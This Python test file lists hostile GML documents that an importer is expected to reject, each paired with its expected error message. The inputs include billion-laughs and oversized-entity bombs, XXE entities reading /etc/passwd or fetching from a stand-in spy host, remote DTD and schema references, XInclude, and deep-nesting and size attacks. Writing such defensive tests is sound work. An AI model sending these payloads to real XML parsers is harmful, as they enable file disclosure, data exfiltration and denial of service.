"""GML that declares, includes, nests, or sends its reader elsewhere."""

from __future__ import annotations

from tests.imports.hostile.case import SPY, Case, written

MEMBER = (
    '<ogr:featureMember><ogr:thing gml:id="t.{0}"><ogr:geometryProperty><gml:Point srsName="urn:ogc:def:crs:EPSG::25832" gml:id="g.{0}">'
    "<gml:pos>678000 5540000</gml:pos></gml:Point></ogr:geometryProperty><ogr:nr>{0}</ogr:nr>{1}</ogr:thing></ogr:featureMember>"
)
DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'


def gml(attributes: str = "", inside: str = "", before: str = "", member: str = MEMBER, declaration: str = DECLARATION) -> str:
    return (
        f'{declaration}{before}<ogr:FeatureCollection xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/XI" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:ogr="http://ogr.maptools.org/" '
        f'xmlns:gml="http://www.opengis.net/gml/3.2" {attributes}>{member.format(1, inside)}</ogr:FeatureCollection>'
    )


def _schema(location: str, attribute: str = "schemaLocation") -> str:
    return gml(f'xsi:{attribute}="http://ogr.maptools.org/ {location}"')


def _type(subset: str, reference: str = "&a;") -> str:
    return gml(before=f"<!DOCTYPE x [{subset}]>", inside=f"<ogr:art>{reference}</ogr:art>")


LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + '<!ENTITY a "&a9;">'
TYPE, ILL, DEEP, BIG = "document type declaration", "is no XML", "nested deeper", "oversized"


def _of(name: str, content: str | bytes, expected: str | int) -> Case:
    return Case(f"gml: {name}", written("thing.gml", content), expected)


CASES = [
    _of("nothing wrong", gml(), 1),
    _of("a thousand million laughs", _type(LAUGHS), TYPE),
    _of("one entity a million times", _type(f'<!ENTITY a "{"x" * 100_000}">', "&a;" * 100_000), TYPE),
    _of("an entity that is a file", _type('<!ENTITY a SYSTEM "file:///etc/passwd">'), TYPE),
    _of("an entity that is an address", _type(f'<!ENTITY a SYSTEM "http://{SPY}/x">'), TYPE),
    _of("a parameter entity that is an address", _type(f'<!ENTITY % p SYSTEM "http://{SPY}/x"> %p;', ""), TYPE),
    _of("a document type at an address", gml(before=f'<!DOCTYPE x SYSTEM "http://{SPY}/x.dtd">'), TYPE),
    _of("a document type behind a long comment", gml(before=f"<!--{'x' * 900_000}--><!DOCTYPE x>"), TYPE),
    _of("a document type beyond the first look", gml(before=f"<!--{'x' * 1_000_000}--><?a {'x' * 200_000}?><!DOCTYPE x>"), "content is not"),
    _of("an inclusion", gml().replace("http://www.w3.org/2001/XI", "http://www.w3.org/2001/XInclude"), "XInclude"),
    _of("a schema at an address", _schema(f"http://{SPY}/x.xsd"), 1),
    _of("a schema of a feed", _schema(f"http://{SPY}/wfs?SERVICE=WFS&amp;VERSION=1.1.0&amp;REQUEST=DescribeFeatureType&amp;TYPENAME=thing").replace("ogr:FeatureCollection xmlns", 'ogr:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs" xmlns'), 1),
    _of("a schema through the network", _schema(f"/vsicurl/http://{SPY}/x.xsd"), "as its schema"),
    _of("a schema of this machine", _schema("/etc/passwd"), "as its schema"),
    _of("a schema of this machine as an address", _schema("file:///etc/passwd"), "as its schema"),
    _of("a schema without a namespace", gml(f'xsi:noNamespaceSchemaLocation="/vsicurl/http://{SPY}/x.xsd"'), "as its schema"),
    _of("a link elsewhere", gml(inside=f'<ogr:art xlink:href="http://{SPY}/x.gml#y"/>'), 1),
    _of("a coordinate system at an address", gml().replace("urn:ogc:def:crs:EPSG::25832", f"http://{SPY}/crs"), "address or a path"),
    _of("a coordinate system at a written address", gml().replace("urn:ogc:def:crs:EPSG::25832", f"&#104;ttp://{SPY}/crs"), "address or a path"),
    _of("a coordinate system in a file", gml().replace("urn:ogc:def:crs:EPSG::25832", "/etc/hostname"), "address or a path"),
    _of("a stylesheet elsewhere", gml(before=f'<?xml-stylesheet href="http://{SPY}/x.xsl" type="text/xsl"?>'), 1),
    _of("a virtual file in a comment", gml(before=f"<!--<OGRVRTDataSource><SrcDataSource>/vsicurl/http://{SPY}/x</SrcDataSource></OGRVRTDataSource>-->"), 1),
    _of("a feed in a comment", gml(before=f"<!--<OGRWFSDataSource><URL>http://{SPY}/wfs</URL></OGRWFSDataSource>-->"), "cannot be read"),
    _of("elements in elements", gml(inside="<a>" * 100_000 + "</a>" * 100_000), DEEP),
    _of("elements that never end", gml(inside="<a>" * 1_000_000), DEEP),
    _of("an element with a thousand attributes", gml(inside="<a " + " ".join(f'x{n}=""' for n in range(1_000)) + "/>"), BIG),
    _of("an attribute of eight megabytes", gml(inside=f'<a x="{"y" * 8_000_000}"/>'), BIG),
    _of("a comment of eight megabytes", gml(inside=f"<!--{'y' * 8_000_000}-->"), BIG),
    _of("a name of ten thousand letters", gml(inside=f"<{'a' * 10_000}/>"), BIG),
    _of("a text of a hundred megabytes", gml(inside=f"<ogr:art>{'y' * 100_000_000}</ogr:art>"), BIG),
    _of("UTF-16", gml(declaration='<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16"), "content is not"),
    _of("UTF-7", gml(declaration='<?xml version="1.0" encoding="UTF-7"?>'), "UTF-8"),
    _of("an encoding nobody knows", gml(declaration='<?xml version="1.0" encoding="rot13"?>'), "UTF-8"),
    _of("bytes that are no text", gml(inside="<ogr:art>X</ogr:art>").encode().replace(b">X<", b">\xfc<"), ILL),
    _of("NUL", gml(inside="<ogr:art>X</ogr:art>").encode().replace(b">X<", b">\0<"), ILL),
    _of("half of it", gml()[: len(gml()) // 2], ILL),
    _of("a second root", gml() + "<x/>", ILL),
    _of("an entity nobody declared", gml(inside="<ogr:art>&x;</ogr:art>"), ILL),
]  # fmt: skip
